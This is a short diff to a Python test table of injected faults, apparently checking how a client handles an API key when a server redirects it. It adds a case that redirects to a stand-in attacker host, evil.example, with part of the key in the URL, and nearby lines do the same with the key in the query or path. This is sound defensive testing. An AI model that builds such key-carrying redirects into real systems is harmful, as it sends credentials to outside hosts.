@@ -29,6 +29,7 @@ SAYS_IT: dict[str, Fault | None] = {
     "repeats the request as its answer": faults.echo(200),
     "answers with the key alone": faults.instead(Answer(small.KEY.encode())),
     "leads elsewhere with the key": faults.redirect(f"https://evil.example/rows?api_key={TOLD[1]}"),
+    "leads elsewhere with the key, half of it escaped": faults.redirect(f"https://evil.example/rows?k={TOLD[2]}"),
     "leads elsewhere with the key in the path": faults.redirect(f"https://evil.example/{small.KEY}"),
     "leads in a circle": faults.redirect_loop(),
     "leads to where there is nothing, with the key": faults.redirect(f"https://tiny.example/none?api_key={TOLD[1]}"),
